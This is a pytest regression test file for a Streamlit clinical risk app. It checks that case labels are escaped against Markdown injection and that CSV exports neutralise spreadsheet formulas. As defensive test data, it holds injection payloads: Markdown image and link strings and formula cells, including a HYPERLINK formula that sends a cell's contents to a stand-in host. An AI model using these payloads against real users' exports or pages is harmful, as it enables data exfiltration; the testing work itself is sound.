"""Replays issue 18 finding 5: Markdown injection in the pages, formula injection in the CSV export.

A case label ``![t](http://host/x.png)`` used to render as an image (loaded from another host) in
every user's banner and compare view; labels and notes starting with ``=``, ``+``, ``-``, ``@`` were
written raw into the CSV export, where a spreadsheet runs them as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess

import numpy as np
import pytest
from streamlit.testing.v1 import AppTest

from nbrisk_core.report import case_to_csv, case_to_json, render_pdf
from nbrisk_core.safe_csv import FORMULA_TRIGGERS
from nbrisk_core.store import cases
from nbrisk_core.case import Case, ChosenSlice, StoredInfo
from nbrisk_core.store.cases import CaseRecord, SliceRecord
from nbrisk_core.store.db import get_engine
from nbrisk_ui import state
from nbrisk_ui.auth import LOCAL_USER
from nbrisk_ui.text import md, plain

TIMEOUT = 60
#: labels (at most 64 characters, as the store allows) that Markdown or Streamlit would render as
#: something other than their text: an image, a link, an autolink, HTML, a colour directive, math
MARKDOWN_LABELS = ("![t](http://host/x.png)", "[open](http://host/) <img src=x> :red[R] $x$ www.host.com",
                   "HTTPS://host.org/a mail@host.org")
#: OWASP's formula triggers as first character, one cell each
FORMULA_TEXTS = ('=HYPERLINK("http://host/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


#: GFM autolink literals, as remark-gfm finds them in the text *after* escapes are resolved
#: (mdast-util-gfm-autolink-literal): URLs, www. names and e-mail addresses
AUTOLINK_LITERAL = re.compile(r"(?i)https?://|www\.|[-.\w+]+@[-\w]+(?:\.[-\w]+)+")


def _bare(markdown: str) -> str:
    """What Markdown syntax can still act on: the text with every backslash-escaped character removed."""
    return re.sub(r"\\.", "", markdown)


def _assert_text_only(markdown: str, label: str) -> None:
    """``label`` appears literally in ``markdown`` and can open no link, image, HTML tag or directive."""
    assert label in plain(markdown), (label, markdown)
    bare = _bare(markdown)
    for syntax in ("![", "](", "[", "<", "http://", "www.", ":red[", "$"):
        assert syntax not in bare, (syntax, markdown)
    text_value = re.sub(r"\\(.)", r"\1", markdown)  # the text nodes the autolink transform sees
    assert not AUTOLINK_LITERAL.search(text_value), markdown


def test_md_escapes_every_markdown_construct():
    for label in (*MARKDOWN_LABELS, "*bold* _it_ `code` ~~s~~ # h | t | &lt; a@b.cd 1. x - y", "a\nb"):
        escaped = md(label)
        assert plain(escaped) == label.replace("\n", " ")
        _assert_text_only(escaped, label.replace("\n", " "))
        assert not re.search(r"[*_`~#|&@]", _bare(escaped))


def test_text_module_compiles_without_invalid_escape_warnings(repo_root):
    """nbrisk_ui/text.py's docstring quoted ``http\\://host`` as ``\\:``, an invalid escape."""
    import warnings

    source = (repo_root / "nbrisk_ui" / "text.py").read_text(encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        compile(source, "text.py", "exec")


# ------------------------------------------------------------------ pages
def _save(url: str, label: str, seed: int):
    rng = np.random.default_rng(seed)
    record = CaseRecord(label=label, age_months=24.0, sex="M", risk_class="HR", hr_probability=0.7,
                        notes="![n](http://host/notes.png)", clinical_entered={"nse": 80.0},
                        slices={"art": SliceRecord("art", rng.integers(-50, 150, (24, 24)).astype(np.int16),
                                                   7, 35.0)})
    # saved by the name the pages act as with sign-in off, so that the Saved cases page may list them
    # (the store shows a user only the cases they own or that are shared with them)
    return cases.save_case(get_engine(url), record, LOCAL_USER)


def _markdown_texts(at: AppTest) -> list[str]:
    """Every Markdown-rendering text of the page: bodies of alerts/markdown/captions, widget labels."""
    kinds = ("markdown", "caption", "info", "warning", "error", "success", "subheader")
    texts = [e.value for kind in kinds for e in getattr(at, kind)]
    widgets = ("checkbox", "button", "text_input", "selectbox")
    texts += [w.label for kind in widgets for w in getattr(at, kind)]
    texts += [e.label for e in at.get("expander")]
    return texts


def test_cases_page_shows_labels_as_text(store_url, repo_root):
    saved = [_save(store_url, label, k) for k, label in enumerate(MARKDOWN_LABELS)]
    at = AppTest.from_file(str(repo_root / "pages" / "5_Cases.py"), default_timeout=TIMEOUT)
    # the banner of a case open in this session (another user's label, reopened from the list)
    at.session_state[state.CASE_ID] = saved[0].case_uid
    at.session_state[state.CASE_LABEL] = saved[0].label
    at.session_state[state.CASE_VERSION] = 1
    at.run()
    assert not at.exception
    texts = _markdown_texts(at)
    shown = {label: [t for t in texts if label in plain(t)] for label in MARKDOWN_LABELS}
    # the banner, the delete confirmation, the compare tab's two headings: each one text only
    assert sum(len(t) for t in shown.values()) >= 4, texts
    for label, found in shown.items():
        for text in found:
            _assert_text_only(text, label)
    assert any(saved[0].label in plain(i.value) and "is open in this session" in i.value for i in at.info)
    headings = [plain(m.value).split("  \n")[0][4:] for m in at.markdown if m.value.startswith("### ")]
    assert len(headings) == 2 and set(headings) <= set(MARKDOWN_LABELS), headings


def test_case_page_banner_of_a_reopened_case_shows_the_label_as_text(store_url, repo_root):
    saved = _save(store_url, MARKDOWN_LABELS[0], 1)
    at = AppTest.from_file(str(repo_root / "pages" / "1_Case.py"), default_timeout=TIMEOUT)
    at.session_state[state.CASE_ID] = saved.case_uid
    at.session_state[state.CASE_LABEL] = saved.label
    at.session_state[state.CASE_VERSION] = 1
    at.session_state[state.CHOSEN_SLICES] = {"art": ChosenSlice("art", 7, 35.0, hu=saved.slices["art"].hu)}
    at.run()
    assert not at.exception
    banner = [i.value for i in at.info if "reopened" in i.value]
    assert banner
    _assert_text_only(banner[0], saved.label)


# ------------------------------------------------------------------ CSV, JSON and PDF exports
@pytest.fixture
def hostile_record():
    yy, xx = np.mgrid[:64, :64]
    hu = np.where((yy - 32) ** 2 + (xx - 32) ** 2 < 400, 60, -40).astype(np.int16)
    return Case(label=FORMULA_TEXTS[0][:64], notes="@SUM(1+1) ![n](http://host/n.png)",
                clinical={"age_months": 30.0, "sex": "F", "nse": 12.5},
                slices={"art": ChosenSlice("art", 3, -12.5, hu=hu)},
                stored=StoredInfo("C0000000001", 1, created_by="alice", updated_by="bob"))


def test_csv_export_neutralises_every_formula_cell(hostile_record):
    for text in FORMULA_TEXTS:
        exported = case_to_csv(hostile_record.replace(notes=text))
        rows = dict(csv.reader(io.StringIO(exported)))
        assert rows["notes"] == "'" + text  # shown as the text, never evaluated
        assert rows["label"] == "'" + FORMULA_TEXTS[0]
        # every value cell is quoted (OWASP), with inner quotes doubled
        assert '"notes","\'' + text.replace('"', '""') + '"' in exported
        formulas = [k for k, v in rows.items() if v.startswith(FORMULA_TRIGGERS)]
        assert formulas == ["slices.art.slice_position_mm"]  # a negative number, not text
    # numbers stay numbers: a negative slice position is not text and keeps its sign
    assert rows["slices.art.slice_position_mm"] == "-12.5" and rows["age_months"] == "30.0"


def test_json_export_keeps_the_text_exact(hostile_record):
    data = json.loads(case_to_json(hostile_record))
    assert data["label"] == FORMULA_TEXTS[0] and data["notes"] == hostile_record.notes


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils (pdftotext) is not installed")
def test_pdf_export_prints_the_text_and_has_no_links(hostile_record, tmp_path):
    pdf = render_pdf(hostile_record.replace(label=MARKDOWN_LABELS[0]))
    assert b"/URI" not in pdf and b"/Subtype /Link" not in pdf
    (tmp_path / "case.pdf").write_bytes(pdf)
    text = subprocess.run(["pdftotext", str(tmp_path / "case.pdf"), "-"], capture_output=True, text=True,
                          check=True).stdout
    assert MARKDOWN_LABELS[0] in text and "![n](http://host/n.png)" in text


def test_streamlit_table_export_is_off():
    """Streamlit's own "Download as CSV" of a table writes cells raw (checked in its DataFrame bundle: cells
    are only quoted when needed); every CSV the app offers must be NBRisk's neutralised one."""
    import tomllib
    from pathlib import Path

    config = tomllib.loads((Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
